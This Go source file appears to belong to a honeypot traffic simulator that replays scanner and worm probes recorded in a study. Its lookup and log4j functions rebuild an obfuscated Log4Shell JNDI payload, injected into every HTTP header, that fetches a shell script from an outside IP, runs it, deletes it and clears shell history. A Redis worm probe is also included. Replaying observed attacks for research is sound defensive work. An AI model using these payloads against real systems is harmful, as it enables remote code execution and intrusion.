package simulate

import (
	"bytes"
	_ "embed"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
)

// studyFile holds the payloads of the study as their observer printed them: non-printing bytes escaped, blanks
// removed, <HONEYPOT IP> for the sensor's address.
//
//go:embed study.jsonl
var studyFile []byte

// studyPayload is one line of studyFile.
type studyPayload struct {
	Port     uint16 `json:"port"`
	Rendered string `json:"rendered"`
}

// studyPayloads reads studyFile.
func studyPayloads() ([]studyPayload, error) {
	var list []studyPayload
	for line := range bytes.Lines(studyFile) {
		var p studyPayload
		if err := json.Unmarshal(line, &p); err != nil {
			return nil, fmt.Errorf("study payload %d: %w", len(list)+1, err)
		}
		list = append(list, p)
	}
	return list, nil
}

// The pair of source country and network of the study, and the unserved ports that it tried.
const (
	pairCountry = "NG"
	pairRegion  = 4
	pairPort    = 8888
)

var pairUnserved = []uint16{5613, 5622, 5660, 5677, 5691, 5749, 5808, 5811, 5923, 5978, 10443, 30005}

// studyProbes are the same payloads, in the order of studyFile, with the blanks put back.
func studyProbes() []probe {
	list := []probe{
		{family: "redis-backup-db", proto: "redis", tool: "redis-worm", variants: []string{"config set dbfilename \"backup.db\"\r\n"}},
		{family: "amqp", proto: "amqp", tool: "amqp-scanner", variants: []string{"AMQP\x00\x00\t\x01"}},
		{family: "rtsp-options", proto: "rtsp", tool: "rtsp-scanner", variants: []string{"OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n\r\n"}},
		{family: "rsync", proto: "rsync", tool: "rsync", variants: []string{"@RSYNCD: 29\n"}},
		{family: "http-firefox-58", proto: "http", tool: "http-scanner", variants: []string{request("GET /", "Host: {host}:6379", "Connection: close",
			"User-Agent: Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:58.0) Gecko/20100101 Firefox/58.0",
			"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "Accept-Language: en-US,en;q=0.5")}},
		{family: "binary-13911111112", tool: "unknown", variants: []string{"{\x01\x00\x1613911111112{"}},
		{family: "ipfs-id", proto: "http", tool: "ipfs-scanner", variants: []string{request("POST /api/v0/id", "Host: {host}:5001", "User-Agent: xxx", "Content-Length: 0", "Accept-Encoding: gzip")}},
		{family: "connect-qzone", proto: "http-proxy", tool: "go-http-client", variants: []string{request("CONNECT qzone-music.qq.com:443", "Host: qzone-music.qq.com:443", "User-Agent: "+goHTTP)}},
		{family: "connect-bdstatic", proto: "http-proxy", tool: "go-http-client", variants: []string{request("CONNECT zz.bdstatic.com:443", "Host: zz.bdstatic.com:443", "User-Agent: "+goHTTP)}},
		{family: "tn3270", proto: "tn3270", tool: "tn3270-scanner", variants: []string{"\xff\xfb\x18\xff\xfa\x18\x00IBM-3279-4-E\xff\xf0\xff\xfb\x19\xff\xfd\x19\xff\xfb\x00\xff\xfd\x00"}},
		{family: "http-nexus-5", proto: "http", tool: "http-scanner", variants: []string{request("GET /", "Host: {host}:2375", "User-Agent: "+nexus5, "Accept-Encoding: gzip", "Connection: close")}},
		{family: "log4j-1942", proto: "http", tool: "log4j-worm", variants: []string{log4j("/?id=", "1942")}},
		{family: "http-datadog-study", proto: "http", tool: "python-requests", variants: []string{request("GET /", "Host: {host}:8888", "User-Agent: "+pyHTTP, "Accept-Encoding: gzip, deflate",
			"Accept: */*", "Connection: keep-alive", "x-datadog-trace-id: 11173388400730376143", "x-datadog-parent-id: 9535484329136583492", "x-datadog-sampling-priority: 0")}},
		{family: "log4j-1980", proto: "http", tool: "log4j-worm", variants: []string{log4j("/?id="+escapeLookup.Replace(lookup("1980")), "1980")}},
	}
	for i := range list {
		list[i].rare = true
	}
	return list
}

// escapeLookup escapes what the observed tool escaped in its URL, and nothing more.
var escapeLookup = strings.NewReplacer("'", "%27", "{", "%7B", "}", "%7D")

// lookup is the obfuscated Log4j lookup (CVE-2021-44228), with the command in it that fetches from the web port.
func lookup(webPort string) string {
	url := "http://135.148.91.146:" + webPort + "/aktualisieren.sh"
	command := "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; curl " + url + " -o aktualisieren.sh; wget " + url +
		"; chmod 777 aktualisieren.sh; sh aktualisieren.sh; rm -rf aktualisieren.sh; rm -rf aktualisieren.sh.1; history -c"
	return "t('${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//185.196.220.213:1389/TomcatBypass/Command/Base64/" +
		base64.StdEncoding.EncodeToString([]byte(command)) + "}')"
}

// log4j carries the lookup in every header that a server might log.
func log4j(path, webPort string) string {
	l := lookup(webPort)
	return request("GET "+path, "X-Api-Version: "+l, "User-Agent: "+l, "Referer: "+l, "Cookie: "+l, "host: {host}:8888", "Connection: close")
}
